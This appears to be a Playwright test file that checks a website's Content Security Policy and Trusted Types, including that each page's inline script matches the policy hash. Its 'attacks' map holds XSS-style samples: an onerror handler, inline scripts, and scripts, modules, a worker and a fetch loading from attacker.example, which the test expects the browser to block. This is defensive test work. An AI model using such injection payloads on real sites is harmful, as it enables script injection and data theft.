import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { expect, expectHydrated, stubQrService, test } from '#tests/journeys/support/site-test.ts'
import { circuitPages, hiddenPages, publicPages } from '#src/build/public-pages.ts'

const attacks: Record<string, () => unknown> = {
  'markup with a handler': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.name = \'attacked\'">')
  },
  'an inline script': () => {
    document.head.append(Object.assign(document.createElement('script'), { text: "window.name = 'attacked'" }))
  },
  'a script of another host': () => {
    document.head.append(Object.assign(document.createElement('script'), { src: 'https://attacker.example/script.js' }))
  },
  'a module of another host': () => import(/* @vite-ignore */ new URL('https://attacker.example/module.js').href),
  'a worker of another host': () => new Worker('https://attacker.example/worker.js'),
  'a handler in an attribute': () => document.body.setAttribute('onclick', "window.name = 'attacked'"),
  'a call to another host': () => fetch('https://attacker.example/'),
}

test('attacks are blocked', { tag: '@chromium' }, async ({ page, noise }) => {
  await page.goto('/contact')
  await expectHydrated(page)
  for (const [attack, run] of Object.entries(attacks)) {
    await test.step(attack, async () => {
      // Some attacks throw and others are ignored, but the browser reports each.
      await page.evaluate(run).catch(() => undefined)
      await expect.poll(() => noise.splice(0).join()).toMatch(/Content Security Policy|This document requires 'Trusted/)
      expect(await page.evaluate(() => window.name)).toBe('')
    })
  }
})

test('the policy allows the one inline script of every document', async () => {
  const headers = await readFile('dist/_headers', 'utf8')
  const [, hash] = /script-src 'self' 'sha256-([^']+)';/.exec(headers) ?? []
  for (const path of [...publicPages, ...hiddenPages, ...circuitPages('nord'), '/shell']) {
    const html = await readFile(`dist${path === '/' ? '/index' : path}.html`, 'utf8')
    const scripts = [...html.matchAll(/<script(?! type="application)[^>]*>(.*?)<\/script>/gs)].map(
      ([, text = '']) => text,
    )
    expect(
      scripts.map((text) => createHash('sha256').update(text).digest('base64')),
      path,
    ).toEqual([hash])
    expect(html, path).not.toMatch(/<[^>]+\son[a-z]+=/i)
  }
})

test('Trusted Types allow the structured data of pages that the app renders', async ({ page }) => {
  await stubQrService(page)
  await page.goto('/services')
  await expectHydrated(page)
  for (const [link, subject] of [
    ['Blog', 'Blog'],
    ['Télécharger', 'SoftwareApplication'],
    ['Accueil', 'TravelAgency'],
  ] as const) {
    await page
      .getByRole('navigation', { name: 'Navigation principale' })
      .getByRole('link', { name: link, exact: true })
      .click()
    await expect
      .poll(() => page.locator('main script[type="application/ld+json"]').first().textContent())
      .toContain(`"${subject}"`)
  }
})
